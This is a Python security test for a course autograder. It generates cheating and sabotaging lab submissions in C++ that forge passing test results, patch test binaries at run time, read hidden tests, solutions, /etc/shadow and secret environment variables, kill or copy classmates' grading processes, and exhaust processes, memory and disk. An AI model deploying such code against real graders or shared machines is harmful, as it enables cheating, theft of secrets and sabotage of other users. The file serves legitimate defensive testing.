"""Attacks on the grader (issue 13): lab01 submissions that cheat, snoop or sabotage, made at
run time from the skeleton or the solution (ATTACKS), graded as one class next to the pristine
skeleton and solution (honest_skeleton, honest_solution) by a copy of this tree that holds
canaries: a line in the hidden tests, in the hidden points, in the solution, and a variable in
the grader's environment, in a tree that others may enter (as an instructor's checkout). Each
attack must score what the honest code under it scores (no more, where the grader refuses it
a file; less only where a limit stopped it, which its feedback names), leak no canary (nor
/etc/shadow) into its results.json or lab01.xml, leave no process of its own behind, spare the
honest solution graded beside it, and leave a results.json of at most 1 MB; the class must be
graded within TIME_LIMIT. Against the grader before the judge (issue 13), the verdict attacks
scored 23.5 of 23.5 on the skeleton (1 honestly), the canaries and /etc/shadow leaked, the
symlink got the solution's marks, daemons outlived the grading, the killer cost its neighbour
8.5 points and copied its file, and the FIFO hung the grader.

The attack code is C++ appended to vector_add.cu (the CPU backend compiles it with g++, and
nvcc checks it): constructors, a destructor, runtime patches of the test binary, children that
rename themselves atk-* (the markers looked for in /proc afterwards). Every attack is bounded:
2000 forks, 8 GiB of memory, 1 GiB of files (atk-fill-* in /tmp and /dev/shm), 20 minutes of
sleep. Needs root, as the grader runs in CI and on Gradescope: the grader's user separation is
what is under test.
"""
import glob
import json
import os
import secrets
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import unittest

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
LAB = "lab01-vector-add"
FILE = "vector_add.cu"
BASES = {"skeleton": os.path.join("labs", LAB, FILE),
         "solution": os.path.join("solutions", LAB, FILE)}
TIME_LIMIT = 600  # seconds for the class run: about 3 minutes on 2 cores (2026-11-23)
JSON_LIMIT = 1 << 20
LIMIT_FLAGS = ["--memory-limit", "2048", "--disk-limit", "256", "--procs", "256"]
KERNELS_RUN = os.path.exists(os.path.join(ROOT, "common", "cpu", "cpu.mk"))

# What every attack starts with: its helpers (@ROOT@: the path of the graded copy of this
# tree, which a cheater who knows the course's layout may guess).
PRELUDE = r'''
/* ---------------------------------------------------------------- an attack on the grader */
#include <dirent.h>
#include <fcntl.h>
#include <glob.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define ATK __attribute__((unused)) static
#define ATK_ROOT "@ROOT@"

/* The file at path (a regular one, /proc's included), its last max bytes NUL-terminated, the
 * count in *len; NULL if it cannot be read. free() it. */
ATK char *atk_read(const char *path, size_t max, size_t *len)
{
    struct stat st;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0)
        return NULL;
    if (fstat(fd, &st) || !S_ISREG(st.st_mode)) {
        close(fd);
        return NULL;
    }
    char *buf = (char *)calloc(1, max + 1);
    ssize_t n = pread(fd, buf, max, st.st_size > (off_t)max ? st.st_size - (off_t)max : 0);
    close(fd);
    if (n < 0) {
        free(buf);
        return NULL;
    }
    if (len)
        *len = (size_t)n;
    return buf;
}

/* The test this process runs (its argv[1]), "" when none. */
ATK const char *atk_test(void)
{
    static char none[1] = "";
    size_t n = 0;
    char *cmd = atk_read("/proc/self/cmdline", 8192, &n);
    size_t first = cmd ? strlen(cmd) + 1 : 0;
    return cmd && first < n ? cmd + first : none; /* kept: the process's lifetime */
}

/* Whether a grader runs us: cmocka's variables (the tests linked with us), or a grader's
 * worker (our binary's name). */
ATK int atk_graded(void)
{
    char exe[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    for (char **e = environ; *e; e++)
        if (!strncmp(*e, "CMOCKA_", 7))
            return 1;
    if (n > 0)
        exe[n] = 0;
    return n > 0 && strstr(exe, "worker_") != NULL;
}

/* fn in a child process named name (the marker the tests look for in /proc), which exits
 * after it; detach: double-forked into a session of its own, out of its test's process group. */
ATK void atk_spawn(const char *name, void (*fn)(void), int detach)
{
    pid_t pid = fork();
    if (pid != 0) {
        if (pid > 0 && detach)
            waitpid(pid, NULL, 0);
        return;
    }
    prctl(PR_SET_NAME, name);
    if (detach && (setsid() < 0 || fork() != 0))
        _exit(0);
    fn();
    _exit(0);
}

/* visit(dir) for dir and each folder above it. */
ATK void atk_up(const char *path, void (*visit)(const char *))
{
    char dir[PATH_MAX];
    if (!realpath(path, dir))
        return;
    for (char *slash; (slash = strrchr(dir, '/')) && slash != dir; *slash = 0)
        visit(dir);
}

/* visit(dir) for each match of pattern. */
ATK void atk_glob(const char *pattern, void (*visit)(const char *))
{
    glob_t g;
    if (glob(pattern, 0, NULL, &g) == 0)
        for (size_t i = 0; i < g.gl_pathc; i++)
            visit(g.gl_pathv[i]);
    globfree(&g);
}

/* visit(tree) for the grader's scratch trees: in /tmp, and beside our own. */
ATK void atk_scratch_trees(void (*visit)(const char *))
{
    char path[PATH_MAX];
    atk_glob("/tmp/grade-*/tree", visit);
    if (realpath("/proc/self/cwd", path) && strrchr(path, '/')) {
        *strrchr(path, '/') = 0; /* our scratch: .../grade-XXX/tree; others beside it */
        if (strrchr(path, '/') && strlen(path) < sizeof path - 16) {
            strcpy(strrchr(path, '/'), "/grade-*/tree");
            atk_glob(path, visit);
        }
    }
}

/* Every folder that may be the course's tree: the guessed path; the folders above our working
 * directory, our binary, our parent's working directory and the paths on our parent's command
 * line (the grader's); the grader's scratch trees in /tmp and beside our own. */
ATK void atk_roots(void (*visit)(const char *))
{
    char path[PATH_MAX];
    size_t n = 0;
    visit(ATK_ROOT);
    atk_up("/proc/self/cwd", visit);
    atk_up("/proc/self/exe", visit);
    snprintf(path, sizeof path, "/proc/%d/cwd", (int)getppid());
    atk_up(path, visit);
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
    char *args = atk_read(path, 16384, &n);
    for (size_t i = 0; args && i < n; i += strlen(args + i) + 1)
        if (args[i] == '/')
            atk_up(args + i, visit);
    free(args);
    atk_scratch_trees(visit);
}

/* A JUnit XML as cmocka writes it, every test named passed. */
ATK void atk_fake_xml(const char *path, const char *const *names, size_t n)
{
    FILE *f = path ? fopen(path, "w") : NULL;
    if (!f)
        return;
    fprintf(f, "<?xml version=\"1.0\" encoding=\"UTF-8\" ?>\n<testsuites>\n<testsuite "
               "name=\"lab01\" time=\"0.001\" tests=\"%zu\" failures=\"0\" errors=\"0\" "
               "skipped=\"0\" >\n", n);
    for (size_t i = 0; i < n; i++)
        fprintf(f, "<testcase name=\"%s\" time=\"0.001\" >\n</testcase>\n", names[i]);
    fprintf(f, "</testsuite>\n</testsuites>\n");
    fclose(f);
}

/* What cmocka prints when every test passed. */
ATK void atk_fake_passed(const char *const *names, size_t n)
{
    printf("[==========] Running %zu test(s).\n", n);
    for (size_t i = 0; i < n; i++)
        printf("[ RUN      ] %s\n[       OK ] %s\n", names[i], names[i]);
    printf("[  PASSED  ] %zu test(s).\n", n);
    fflush(stdout);
}
'''

# The attacks: NAME: (BASE, EXPECT, MARKERS, CODE). BASE: the file the code is appended to;
# EXPECT: "same" (each test scores what BASE's does), "at most" (no test scores more than
# in BASE: a build that the grader stops reading its files may fail) or "limited" (at most,
# and every test that scores less names the limit that stopped it); MARKERS: the names of
# the processes it starts. A CODE of None: the exercise file is a symlink to the solution.
ATTACKS = {
    # verdict: a passing JUnit XML where cmocka's goes (and in its sibling tests' folders),
    # fake PASSED lines, exit 0 before any test runs (in a worker, before any call: every
    # test fails there, so at most the skeleton's score)
    "verdict_xml": ("skeleton", "at most", (), r'''
__attribute__((constructor)) static void atk_verdict(void)
{
    const char *test = atk_test();
    const char *xml = getenv("CMOCKA_XML_FILE");
    char pattern[PATH_MAX];
    if (!atk_graded() || !*test || !strcmp(test, "args_rejected")) /* that one passes anyway */
        return;
    atk_fake_xml(xml, &test, 1);
    atk_fake_xml("cmocka.xml", &test, 1);
    if (xml && strlen(xml) < sizeof pattern - 16) { /* .../work/lab01/SUITE/NN-TEST/cmocka.xml */
        strcpy(pattern, xml);
        for (int up = 0; up < 2 && strrchr(pattern, '/'); up++)
            *strrchr(pattern, '/') = 0;
        strcat(pattern, "/*/cmocka.xml");
        glob_t g;
        if (glob(pattern, 0, NULL, &g) == 0)
            for (size_t i = 0; i < g.gl_pathc; i++)
                atk_fake_xml(g.gl_pathv[i], &test, 1);
        globfree(&g);
    }
    atk_fake_passed(&test, 1);
    _exit(0);
}
'''),
    # verdict: cmocka's own functions defined here, so that they replace the library's: no
    # check fails, and the runner runs nothing and reports every test passed
    "verdict_cmocka": ("skeleton", "same", (), r'''
struct atk_unit { const char *name; void *test, *setup, *teardown, *state; };
extern "C" {
void _fail(const char *file, int line) {}
void _skip(const char *file, int line) {}
void _assert_true(uintmax_t result, const char *expression, const char *file, int line) {}
void _assert_int_equal(uintmax_t a, uintmax_t b, const char *file, int line) {}
void _assert_memory_equal(const void *a, const void *b, size_t size, const char *file, int line) {}
void print_error(const char *format, ...) {}
int _cmocka_run_group_tests(const char *group, const struct atk_unit *tests, size_t n,
                            void *setup, void *teardown)
{
    const char **names = (const char **)calloc(n + 1, sizeof *names);
    for (size_t i = 0; i < n; i++)
        names[i] = tests[i].name;
    atk_fake_xml(getenv("CMOCKA_XML_FILE"), names, n);
    atk_fake_passed(names, n);
    free(names);
    return 0;
}
}
'''),
    # verdict: the test kit's runner and status check patched in the running binary (a second
    # definition would not link): every test passes, --list names 100 invented tests
    "verdict_testkit": ("skeleton", "same", (), r'''
extern "C" int testkit_main(const char *, const void *, size_t, const void *, int, int,
                            char **) __attribute__((weak));
extern "C" void testkit_status(int, int, const char *, const char *, int) __attribute__((weak));

static int atk_testkit_main(const char *group, const void *tests, size_t count,
                            const void *variants, int nvariants, int argc, char **argv)
{
    if (argc > 1 && !strncmp(argv[1], "--list", 6)) {
        for (int i = 0; i < 100; i++)
            printf("invented_%03d\n", i);
        return 0;
    }
    atk_fake_xml(getenv("CMOCKA_XML_FILE"), (const char *const *)argv + 1, (size_t)argc - 1);
    atk_fake_passed((const char *const *)argv + 1, (size_t)argc - 1);
    return 0;
}

/* Code at `at` becomes `bytes`: the page made writable for the while. */
static void atk_patch(void *at, const unsigned char *bytes, size_t n)
{
    uintptr_t page = (uintptr_t)sysconf(_SC_PAGESIZE), start = (uintptr_t)at & ~(page - 1);
    if (mprotect((void *)start, 2 * page, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
        memcpy(at, bytes, n);
        mprotect((void *)start, 2 * page, PROT_READ | PROT_EXEC);
    }
}

__attribute__((constructor)) static void atk_testkit(void)
{
#if defined(__x86_64__)
    const char *test = atk_test();
    int list = !strncmp(test, "--list", 6);
    if (!list && (!atk_graded() || !*test || !strcmp(test, "args_rejected")))
        return;
    if (testkit_main) { /* movabs rax, atk_testkit_main; jmp rax */
        unsigned char jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0};
        uintptr_t to = (uintptr_t)&atk_testkit_main;
        memcpy(jump + 2, &to, 8);
        atk_patch((void *)&testkit_main, jump, sizeof jump);
    }
    if (testkit_status) { /* ret: every status is the one wanted */
        static const unsigned char ret[1] = {0xc3};
        atk_patch((void *)&testkit_status, ret, 1);
    }
#endif
}
'''),
    # verdict, against the judge (the new grader's): a passing XML into every judge's run
    # folder it can reach, the judges stopped and their memory written through /proc, then
    # exit 0 whatever the call: the judge must fail the test, never pass it
    "verdict_judge": ("skeleton", "at most", (), r'''
static const char *const atk_names[] = {"args_rejected", "one_block", "thread_per_element",
                                        "grid_stride", "grid_2d", "grid_stride_float4",
                                        "host_round_trip"};

static void atk_xml_into(const char *dir)
{
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/cmocka.xml", dir);
    atk_fake_xml(path, atk_names, sizeof atk_names / sizeof atk_names[0]);
}

static void atk_at_judges(void)
{
    char pattern[PATH_MAX];
    atk_glob("/tmp/grade-judges-*/runs-*/*", atk_xml_into);
    if (realpath("/proc/self/cwd", pattern) && strlen(pattern) < sizeof pattern - 40) {
        for (int up = 0; up < 3 && strrchr(pattern, '/'); up++) /* .../grade-X/runs/TAG */
            *strrchr(pattern, '/') = 0;
        strcat(pattern, "/grade-judges-*/runs-*/*");
        atk_glob(pattern, atk_xml_into);
    }
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc));) {
        char path[64];
        size_t n = 0;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        char *cmd = atk_read(path, 4096, &n);
        if (cmd && strstr(cmd, "judge_lab01")) {
            int pid = atoi(e->d_name), fd;
            kill(pid, SIGSTOP);
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            if ((fd = open(path, O_WRONLY)) >= 0) {
                fprintf(stderr, "atk: the judge's memory is open for writing\n");
                close(fd);
            }
        }
        free(cmd);
    }
    if (proc)
        closedir(proc);
}

__attribute__((constructor)) static void atk_judge(void)
{
    atk_at_judges();
    atk_fake_passed(atk_names, sizeof atk_names / sizeof atk_names[0]);
    _exit(0);
}
'''),
    # secrets: the hidden tests, hidden points and solution from every tree it finds, and the
    # secrets in its own and its parent's environment, on stderr; test one_block first floods
    # 60 MB of output
    "secrets": ("skeleton", "same", (), r'''
static char atk_seen[64][PATH_MAX];
static int atk_nseen;

static void atk_show(const char *dir)
{
    static const char *const wanted[] = {"tests/hidden/test_lab01_hidden.c",
                                         "tests/hidden/lab01.txt", "solutions/" LAB_DIR "/vector_add.cu"};
    char path[PATH_MAX], real[PATH_MAX];
    for (size_t w = 0; w < sizeof wanted / sizeof wanted[0]; w++) {
        snprintf(path, sizeof path, "%s/%s", dir, wanted[w]);
        if (!realpath(path, real) || atk_nseen == 64)
            continue;
        int seen = 0;
        for (int i = 0; i < atk_nseen; i++)
            seen |= !strcmp(atk_seen[i], real);
        char *text = seen ? NULL : atk_read(real, 160, NULL);
        if (text) {
            strcpy(atk_seen[atk_nseen++], real);
            fprintf(stderr, "atk-secret %s: ...%s\n", real, text);
            free(text);
        }
    }
}

static void atk_show_env(const char *path)
{
    size_t n = 0;
    char *env = atk_read(path, 65536, &n);
    for (size_t i = 0; env && i < n; i += strlen(env + i) + 1)
        if (strstr(env + i, "SECRET") || strstr(env + i, "TOKEN") || strstr(env + i, "PASSWORD"))
            fprintf(stderr, "atk-secret %s: %s\n", path, env + i);
    free(env);
}

__attribute__((constructor)) static void atk_secrets(void)
{
    char path[64];
    if (!strcmp(atk_test(), "one_block")) {
        static char line[1024];
        memset(line, 'x', sizeof line - 1);
        line[sizeof line - 2] = '\n';
        for (int i = 0; i < 60 * 1024; i++)
            fputs(line, stderr);
    }
    atk_show_env("/proc/self/environ");
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    atk_show_env(path);
    atk_roots(atk_show);
}
'''),
    # root reads: /etc/shadow and the hidden points, by absolute path, assembled into the
    # binary (the build runs as root) and printed by every test
    "root_incbin": ("skeleton", "at most", (), r'''
#ifndef __CUDA_ARCH__
asm(".pushsection .rodata\n"
    ".globl atk_shadow\natk_shadow:\n.incbin \"/etc/shadow\"\n.byte 0\n"
    ".globl atk_points\natk_points:\n.incbin \"" ATK_ROOT "/tests/hidden/lab01.txt\"\n.byte 0\n"
    ".popsection\n");
extern "C" const char atk_shadow[], atk_points[];

__attribute__((constructor)) static void atk_incbin(void)
{
    fprintf(stderr, "atk-shadow: %s\natk-points: %s\n", atk_shadow,
            atk_points + (strlen(atk_points) > 300 ? strlen(atk_points) - 300 : 0));
}
#endif
'''),
    # root reads: the hidden points #included by absolute path: the compiler's errors quote
    # its lines
    "root_include": ("skeleton", "at most", (), r'''
#include "@ROOT@/tests/hidden/lab01.txt"
'''),
    # root reads: the exercise file is a symlink to the solution in the course's tree
    "root_symlink": ("skeleton", "at most", (), None),
    # processes: a daemon per test, double-forked into its own session, asleep for 20 minutes
    # (longer than TIME_LIMIT: still there when the class run ends, unless the grader kills it)
    "proc_daemon": ("solution", "same", ("atk-daemon",), r'''
static void atk_sleep(void)
{
    sleep(1200);
}

__attribute__((constructor)) static void atk_daemon(void)
{
    atk_spawn("atk-daemon", atk_sleep, 1);
}
'''),
    # processes: a detached child that, for 20 s, kills the processes that the grader (our
    # parent) runs in the scratch trees of honest students (files without atk- markers), prints
    # the vector_add.cu of every other scratch tree, and copies the finished ones of its
    # classmates (trees beside its own) to /tmp/atk-loot-*
    "kill_neighbours": ("solution", "same", ("atk-killer",), r'''
static pid_t atk_grader;
static char atk_tree[PATH_MAX];

/* The scratch tree that process pid works in, "" if none or ours. */
static void atk_tree_of(int pid, char *tree)
{
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/cwd", pid);
    if (!realpath(link, tree) || !strcmp(tree, atk_tree) || !strstr(tree, "/grade-"))
        tree[0] = 0;
}

/* Whether pid descends from the grader (a test, or a build step of another student). */
static int atk_graders(int pid)
{
    for (int depth = 0; depth < 4 && pid > 1; depth++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        char *stat = atk_read(path, 4096, NULL);
        char *end = stat ? strrchr(stat, ')') : NULL;
        int ppid = 0;
        if (!end || sscanf(end, ") %*c %d", &ppid) != 1)
            ppid = 0;
        free(stat);
        if (ppid == atk_grader)
            return 1;
        pid = ppid;
    }
    return 0;
}

static char *atk_student_file(const char *tree)
{
    char path[PATH_MAX + 64];
    snprintf(path, sizeof path, "%s/labs/" LAB_DIR "/vector_add.cu", tree);
    return atk_read(path, 1 << 20, NULL);
}

static void atk_kill_honest(void)
{
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
        char tree[PATH_MAX];
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid() || !atk_graders(pid))
            continue;
        atk_tree_of(pid, tree);
        char *text = tree[0] ? atk_student_file(tree) : NULL;
        if (text && !strstr(text, "atk-") && kill(pid, SIGKILL) == 0)
            fprintf(stderr, "atk-killer: killed %d in %s\n", pid, tree);
        free(text);
    }
    if (d)
        closedir(d);
}

/* The folder that holds a scratch tree's grade-XXX folder. */
static void atk_scratch_of(const char *tree, char *dir)
{
    strcpy(dir, tree);
    for (int up = 0; up < 2 && strrchr(dir, '/'); up++)
        *strrchr(dir, '/') = 0;
}

/* Another scratch tree's vector_add.cu printed; a finished one beside ours (a classmate's)
 * copied to /tmp/atk-loot-N.cu. */
static void atk_loot(const char *tree)
{
    static int loot;
    char *text = strcmp(tree, atk_tree) ? atk_student_file(tree) : NULL;
    char ours[PATH_MAX], theirs[PATH_MAX], path[64];
    if (!text)
        return;
    fprintf(stderr, "atk-snoop %s:\n%.300s\n", tree, text);
    atk_scratch_of(atk_tree, ours);
    atk_scratch_of(tree, theirs);
    snprintf(path, sizeof path, "/tmp/atk-loot-%d-%d.cu", (int)getpid(), loot++);
    FILE *f = strstr(text, "TODO:") || strcmp(ours, theirs) ? NULL : fopen(path, "w");
    if (f) {
        fputs(text, f);
        fclose(f);
    }
    free(text);
}

static void atk_killer_run(void)
{
    for (int i = 0; i < 200; i++) { /* 20 s */
        atk_kill_honest();
        if (i % 10 == 0)
            atk_scratch_trees(atk_loot);
        usleep(100000);
    }
}

__attribute__((constructor)) static void atk_killer(void)
{
    atk_grader = getppid();
    if (atk_graded() && realpath("/proc/self/cwd", atk_tree))
        atk_spawn("atk-killer", atk_killer_run, 1);
}
'''),
    # processes: a fork bomb per test: up to 2000 children that sleep for 30 s
    "proc_forkbomb": ("solution", "limited", ("atk-bomb",), r'''
static void atk_bomb(void)
{
    for (int i = 0; i < 2000; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            sleep(30);
            _exit(0);
        }
        if (pid < 0)
            break;
    }
    sleep(30);
}

__attribute__((constructor)) static void atk_forkbomb(void)
{
    atk_spawn("atk-bomb", atk_bomb, 0);
}
'''),
    # resources: a child per test that touches up to 8 GiB, 256 MiB at a time, and holds it
    # for a minute
    "proc_memory": ("solution", "limited", ("atk-hog",), r'''
static void atk_hog(void)
{
    const size_t step = (size_t)256 << 20;
    for (int i = 0; i < 32; i++) { /* 8 GiB, never more */
        char *p = (char *)mmap(NULL, step, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                               -1, 0);
        if (p == MAP_FAILED)
            break;
        for (size_t at = 0; at < step; at += 4096)
            ((volatile char *)p)[at] = 1;
    }
    sleep(60);
}

__attribute__((constructor)) static void atk_memory(void)
{
    atk_spawn("atk-hog", atk_hog, 0);
}
'''),
    # resources: a child per test that writes 64 MiB files /tmp/atk-fill-* and
    # /dev/shm/atk-fill-*, until those hold 1 GiB in all, and removes none
    "proc_disk": ("solution", "limited", ("atk-fill",), r'''
static long long atk_filled(void)
{
    static const char *const patterns[] = {"/tmp/atk-fill-*", "/dev/shm/atk-fill-*"};
    long long bytes = 0;
    for (int k = 0; k < 2; k++) {
        glob_t g;
        struct stat st;
        if (glob(patterns[k], 0, NULL, &g) == 0)
            for (size_t i = 0; i < g.gl_pathc; i++)
                if (stat(g.gl_pathv[i], &st) == 0)
                    bytes += st.st_size;
        globfree(&g);
    }
    return bytes;
}

static void atk_fill(void)
{
    static char chunk[1 << 20];
    memset(chunk, 'f', sizeof chunk);
    for (int k = 0; k < 16 && atk_filled() + (64 << 20) <= (1LL << 30); k++) {
        char path[64];
        snprintf(path, sizeof path, "%s/atk-fill-%d-%d", k % 2 ? "/dev/shm" : "/tmp",
                 (int)getpid(), k);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644), ok = fd >= 0;
        for (int mib = 0; ok && mib < 64; mib++)
            ok = write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk;
        if (fd >= 0)
            close(fd);
        if (!ok)
            break;
    }
}

__attribute__((constructor)) static void atk_disk(void)
{
    atk_spawn("atk-fill", atk_fill, 0);
}
'''),
    # traps: as each test ends, the files the grader reads after it (cmocka.xml, output.txt,
    # in the working directory and in $CMOCKA_XML_FILE's folder) become a symlink to /dev/zero
    # (never ends) and a FIFO (blocks its reader)
    "traps_fifo": ("solution", "same", (), r'''
static void atk_trap(const char *dir)
{
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/cmocka.xml", dir);
    unlink(path);
    symlink("/dev/zero", path);
    snprintf(path, sizeof path, "%s/output.txt", dir);
    unlink(path);
    mkfifo(path, 0666);
}

__attribute__((destructor)) static void atk_traps(void)
{
    char dir[PATH_MAX];
    const char *xml = getenv("CMOCKA_XML_FILE");
    if (!*atk_test() || !strncmp(atk_test(), "--list", 6))
        return;
    atk_trap(".");
    if (xml && strlen(xml) < sizeof dir && strrchr(xml, '/')) {
        strcpy(dir, xml);
        *strrchr(dir, '/') = 0;
        atk_trap(dir);
    }
}
'''),
}

HONEST = {"honest_skeleton": "skeleton", "honest_solution": "solution"}


def make_class(where, root):
    """The class folder: a folder per attack and per honest base, each with vector_add.cu."""
    texts = {base: read(os.path.join(ROOT, rel)) for base, rel in BASES.items()}
    for name, base in HONEST.items():
        write(os.path.join(where, name, FILE), texts[base])
    for name, (base, _, _, code) in ATTACKS.items():
        path = os.path.join(where, name, FILE)
        if code is None:
            os.makedirs(os.path.dirname(path))
            os.symlink(os.path.join(root, BASES["solution"]), path)
            continue
        attack = (PRELUDE + code).replace("@ROOT@", root).replace("LAB_DIR", '"%s"' % LAB)
        write(path, texts[base] + attack)


def copy_tree(where):
    """This tree without .git and outputs, with the CPU backend's prebuilt runtimes."""
    skip = {".git", "build", "grade", "dist"}
    shutil.copytree(ROOT, where, symlinks=True,
                    ignore=lambda d, names: skip & set(names) if d == ROOT else set())
    for name in ("runtime", "runtime-asan", "runtime-tsan", "cucc-rewrite"):
        src = os.path.join(ROOT, "build", "cpu", name)
        if os.path.isdir(src):
            shutil.copytree(src, os.path.join(where, "build", "cpu", name), symlinks=True)
        elif os.path.isfile(src):
            os.makedirs(os.path.join(where, "build", "cpu"), exist_ok=True)
            shutil.copy2(src, os.path.join(where, "build", "cpu", name))


def plant_canaries(root):
    """A random canary in each secret of root: {what: canary}."""
    canaries = {what: "CANARY-%s-%s" % (what, secrets.token_hex(8))
                for what in ("HIDDEN", "POINTS", "SOLUTION", "ENV")}
    for rel, line in ((os.path.join("tests", "hidden", "test_lab01_hidden.c"), "/* %s */"),
                      (os.path.join("tests", "hidden", "lab01.txt"), "# %s"),
                      (BASES["solution"], "/* %s */")):
        what = {"test_lab01_hidden.c": "HIDDEN", "lab01.txt": "POINTS"}.get(
            os.path.basename(rel), "SOLUTION")
        with open(os.path.join(root, rel), "a", encoding="utf-8") as f:
            f.write("\n" + line % canaries[what] + "\n")
    return canaries


def read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def read_regular(path, limit):
    """The bytes of a regular file of at most limit bytes; None for anything else (a FIFO, a
    link, a file too large: read none of those, they are traps)."""
    try:
        st = os.lstat(path)
    except OSError:
        return None
    if not stat.S_ISREG(st.st_mode) or st.st_size > limit:
        return None
    with open(path, "rb") as f:
        return f.read(limit + 1)


def marked_processes():
    """{pid: comm} of the processes whose name is an attack's marker (atk-*)."""
    found = {}
    for pid in os.listdir("/proc"):
        try:
            with open("/proc/%s/comm" % pid, encoding="utf-8", errors="replace") as f:
                comm = f.read().strip()
        except OSError:
            continue
        if comm.startswith("atk-"):
            found[int(pid)] = comm
    return found


def attack_files():
    return glob.glob("/tmp/atk-*") + glob.glob("/dev/shm/atk-*")


def grader_has_limits(root):
    p = subprocess.run([sys.executable, os.path.join(root, "common", "grade", "grade.py"),
                        "--help"], stdout=subprocess.PIPE, universal_newlines=True)
    return all(flag in p.stdout for flag in LIMIT_FLAGS[::2])


def run_class(root, class_dir, out, env, log):
    """grade.py on the class, from root, in a session of its own: killed, all of it, at
    TIME_LIMIT. Returns (seconds, timed out)."""
    cmd = [sys.executable, os.path.join(root, "common", "grade", "grade.py"), "--class",
           class_dir, "--lab", "01", "--class-jobs", "2", "--out", out, "--backend", "cpu"]
    if grader_has_limits(root):
        cmd += LIMIT_FLAGS
    start = time.monotonic()
    with open(log, "wb") as f:
        p = subprocess.Popen(cmd, cwd=root, env=env, stdin=subprocess.DEVNULL, stdout=f,
                             stderr=subprocess.STDOUT, start_new_session=True)
        try:
            p.wait(timeout=TIME_LIMIT)
            return time.monotonic() - start, False
        except subprocess.TimeoutExpired:
            for sig, grace in ((signal.SIGTERM, 20), (signal.SIGKILL, None)):
                try:
                    os.killpg(p.pid, sig)
                    p.wait(timeout=grace)
                    break
                except (ProcessLookupError, subprocess.TimeoutExpired):
                    pass
            p.wait()
            return time.monotonic() - start, True


class Attacks(unittest.TestCase):
    """ATTACKS and the honest skeleton and solution graded as one class by a copy of this tree
    that holds canaries (see the module's doc)."""

    @classmethod
    def setUpClass(cls):
        if not KERNELS_RUN:
            raise unittest.SkipTest("needs the CPU backend (common/cpu/cpu.mk)")
        if os.geteuid() != 0:
            raise unittest.SkipTest("needs root: the grader's user separation")
        cls.tmp = tempfile.mkdtemp(prefix="test-grader-attacks-")
        os.chmod(cls.tmp, 0o755)  # as an instructor's checkout: others may enter
        root, class_dir = os.path.join(cls.tmp, "root"), os.path.join(cls.tmp, "class")
        cls.out, cls.log = os.path.join(cls.tmp, "out"), os.path.join(cls.tmp, "grade.log")
        copy_tree(root)
        cls.canaries = plant_canaries(root)
        make_class(class_dir, root)
        scratch = os.path.join(cls.tmp, "scratch")  # the grader's temporary folders
        os.makedirs(scratch)
        env = {k: v for k, v in os.environ.items()
               if k not in ("MAKEFLAGS", "MFLAGS", "MAKELEVEL", "MAKEOVERRIDES")}
        env.update(GRADER_SECRET=cls.canaries["ENV"], TMPDIR=scratch)
        try:
            with open("/etc/shadow", encoding="utf-8", errors="replace") as f:
                cls.shadow = f.readline().strip()
        except OSError:
            cls.shadow = None
        cls.secs, cls.timed_out = run_class(root, class_dir, cls.out, env, cls.log)
        cls.left = marked_processes()  # before a test may look
        cls.loot = [read_regular(p, 1 << 20) for p in glob.glob("/tmp/atk-loot-*")]

    @classmethod
    def tearDownClass(cls):
        for pid in marked_processes():  # those still there, found again
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        for path in attack_files():
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path, ignore_errors=True)
            else:
                os.remove(path)
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def results(self, student):
        data = read_regular(os.path.join(self.out, student, "results.json"), JSON_LIMIT)
        return json.loads(data) if data is not None else None

    def scores(self, student):
        return {t["name"]: t["score"] for t in (self.results(student) or {"tests": []})["tests"]}

    def test_scores_what_the_honest_code_scores(self):
        for name, (base, expect, _, _) in ATTACKS.items():
            with self.subTest(attack=name):
                got, want = self.scores(name), self.scores("honest_" + base)
                self.assertTrue(want, "honest_%s has no results" % base)
                if expect == "same":
                    wrong = {t: (got.get(t), s) for t, s in want.items() if got.get(t) != s}
                else:
                    wrong = {t: (s, want.get(t, 0)) for t, s in got.items() if s > want.get(t, 0)}
                if expect == "limited":
                    outputs = {t["name"]: t["output"] for t in self.results(name)["tests"]}
                    wrong.update({t: (s, want.get(t), "no limit named") for t, s in got.items()
                                  if s < want.get(t, 0) and "limit" not in outputs[t]})
                self.assertEqual(wrong, {}, "%s: {test: (score, honest %s's)}" % (name, base))

    def test_attacks_built(self):
        """Each attack compiled, so that its score says what the grader did with it; those
        that embed a file the grader hides must not, and say why."""
        for name, (_, _, _, code) in ATTACKS.items():
            output = (self.results(name) or {}).get("output", "")
            if name in ("root_incbin", "root_include"):
                with self.subTest(attack=name):
                    self.assertRegex(output, "(?s)did not compile.*(not found|No such file|"
                                     "Permission denied)")
                continue
            if code is None:
                continue
            with self.subTest(attack=name):
                self.assertNotIn("did not compile", output)

